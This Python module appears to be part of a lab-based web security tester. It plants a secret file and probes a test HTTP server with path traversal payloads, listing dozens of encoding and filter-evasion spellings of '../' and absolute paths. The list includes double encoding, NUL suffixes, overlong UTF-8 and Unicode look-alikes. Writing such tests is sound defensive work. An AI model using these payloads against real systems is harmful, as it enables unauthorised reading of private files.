"""Path traversal: a file outside the folder that is served comes out, however the way to it is spelled."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from typing import TYPE_CHECKING

from backroad.labs.http.attack.secret import LETTERS
from backroad.labs.http.attack.trying import Send, Trying

if TYPE_CHECKING:
    from backroad.labs.http.lab import HttpLab

MOST = 400
SAID = "a file outside the folder comes out for"
Spelling = Callable[[str], str]
UP = "../"
"""One step up; each spelling writes it, and the rest of the way, in its own manner."""
SPELLINGS: tuple[tuple[str, Spelling], ...] = (
    ("plain", lambda way: way),
    ("slashes encoded", lambda way: way.replace("/", "%2f")),
    ("dots encoded", lambda way: way.replace("..", "%2e%2e")),
    ("one dot encoded", lambda way: way.replace("..", ".%2E")),
    ("dots and slashes encoded", lambda way: way.replace("..", "%2e%2e").replace("/", "%2f")),
    ("encoded twice", lambda way: way.replace("..", "%252e%252e").replace("/", "%252f")),
    ("slashes encoded twice", lambda way: way.replace("/", "%252F")),
    ("encoded three times", lambda way: way.replace("..", "%25252e%25252e").replace("/", "%25252f")),
    ("backslashes", lambda way: way.replace("/", "\\")),
    ("backslashes encoded", lambda way: way.replace("/", "%5c")),
    # What takes "../" out once leaves one of these.
    ("for a filter that takes it out once", lambda way: way.replace("../", "....//")),
    ("for a filter that takes it out once", lambda way: way.replace("../", "..././")),
    ("for a filter that takes it out once", lambda way: way.replace("../", ".../...//")),
    ("for a filter that takes dots out", lambda way: way.replace("../", "....\\/")),
    ("slashes doubled", lambda way: way.replace("/", "//")),
    ("with a dot segment", lambda way: "./" + way.replace("../", ".././")),
    # What only looks at the beginning sees a harmless folder.
    ("from a folder that is not there", lambda way: f"a/../{way}"),
    ("from a folder that is not there, encoded", lambda way: f"a/..%2f{way.replace('/', '%2f')}"),
    # What only looks at the end sees a picture.
    ("with an end after a NUL", lambda way: f"{way}\0.png"),
    ("with an end after an encoded NUL", lambda way: f"{way}%00.png"),
    ("with an encoded question mark behind it", lambda way: f"{way}%3f.png"),
    ("with a slash behind it", lambda way: f"{way}/"),
    ("with a dot behind it", lambda way: f"{way}/."),
    ("with a semicolon", lambda way: way.replace("../", "..;/")),
    # Letters that become dots and slashes where text is normalized after it was checked.
    ("wide letters", lambda way: way.replace(".", "\uff0e").replace("/", "\uff0f")),
    ("a leader for two dots", lambda way: way.replace("..", "\u2025")),
    ("too long an encoding", lambda way: way.replace("..", "%c0%ae%c0%ae")),
    ("too long an encoding of the slash", lambda way: way.replace("/", "%c0%af")),
    ("unicode escapes", lambda way: way.replace("..", "%u002e%u002e").replace("/", "%u2215")),
)
ABSOLUTE: tuple[tuple[str, Spelling], ...] = (
    # A path that begins with a slash wins over what it is joined to.
    ("absolute", lambda place: place),
    ("absolute, with two slashes", lambda place: "/" + place),
    ("absolute, encoded", lambda place: place.replace("/", "%2f")),
    ("absolute, encoded twice", lambda place: place.replace("/", "%252f")),
    ("absolute, for a filter that takes the first slash off", lambda place: "//" + place),
    ("absolute, as a URL", lambda place: "file://" + place),
    ("absolute, with backslashes", lambda place: place.replace("/", "\\")),
    ("absolute, behind dots", lambda place: "." + place),
)


def attack(lab: HttpLab, rng: random.Random, send: Send, secret: str, at: str, base: str, most: int) -> None:
    """Plants what is to be found, and raises Rejection when it comes out."""
    word = "".join(rng.choice(LETTERS) for _ in range(6))
    beside = ""
    if not at:
        at = f"{word}.txt"
        lab.plant(at, secret.encode())
    if base:
        # What asks whether a path begins with the folder's name also lets this one through.
        beside = f"{base}-{word}/{word}.txt"
        lab.plant(beside, secret.encode())
        lab.plant(f"{base}/{word}/a.txt", b"a")
    trying = Trying(lab, send, "Path", most)
    for payload, kind in _payloads(rng, lab, at, beside, base):
        trying.looks(payload, kind, secret, SAID)


def _payloads(rng: random.Random, lab: HttpLab, at: str, beside: str, base: str) -> Iterator[tuple[str, str]]:
    place = f"{lab.root}/{at}"
    found = [(spell(place), kind) for kind, spell in ABSOLUTE]
    for kind, spell in SPELLINGS:
        found += [(spell(UP * depth + at), kind) for depth in (1, 2)]
        found.append((spell(UP * 8 + place.lstrip("/")), kind))
    if beside:
        name = base.rstrip("/").rpartition("/")[2]
        rest = beside[len(base) - len(name) :]
        word = beside.rpartition("/")[2].partition(".")[0]
        for kind, spell in SPELLINGS[:8]:
            # What only looks at the beginning sees a folder that is there.
            found.append((f"{word}/{spell(UP * 2 + at)}", f"{kind}, from a folder that is there"))
        for kind, spell in SPELLINGS[:12]:
            found.append((spell(UP + rest), f"{kind}, to a folder whose name begins alike"))
        found.append((f"{lab.root}/{beside}", "absolute, to a folder whose name begins alike"))
    rng.shuffle(found)
    yield from dict(found).items()
